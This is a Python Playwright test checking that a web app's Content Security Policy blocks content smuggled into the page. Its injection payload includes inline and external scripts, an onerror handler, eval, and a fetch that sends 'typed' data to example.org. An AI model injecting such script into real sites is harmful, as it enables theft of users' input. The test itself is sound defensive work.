"""The page's own policy: what the app shows passes it, and what somebody smuggled in does not."""

from __future__ import annotations

from playwright.sync_api import Browser, Request

from tests.browser.app import App
from tests.browser.serving import new_context

SMUGGLED = """async () => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
    const put = (name, settings) => document.body.append(Object.assign(document.createElement(name), settings));
    put("script", { textContent: "window.ran = 'script'" });
    put("script", { src: "https://example.org/a.js" });
    put("img", { src: "https://example.org/a.png" });
    put("iframe", { src: "https://example.org/" });
    const image = document.createElement("img");
    image.setAttribute("onerror", "window.ran = 'handler'");
    image.src = "data:,none";
    document.body.append(image);
    await fetch("https://example.org/?what=was-typed").catch(() => {});
    setTimeout(() => { try { eval("window.ran = 'eval'"); } catch { /* refused */ } });  // the driver's own turn may
    await new Promise((done) => setTimeout(done, 500));
    return [window.ran ?? "nothing", window.refused.sort()];
}"""


def test_what_was_smuggled_into_the_page_neither_runs_nor_leaves(server: str, chromium: Browser) -> None:
    context = new_context(chromium, 1440, 900)
    page = context.new_page()
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.on("requestfinished", note)
    app = App(page, server)
    app.open()
    ran, refused = page.evaluate(f"({SMUGGLED})()")
    assert refused == [
        *("connect-src", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem", "script-src-elem"),
    ]
    assert ran == "nothing"
    assert not [address for address in asked if not address.startswith((server, "data:", "blob:"))]
    context.close()
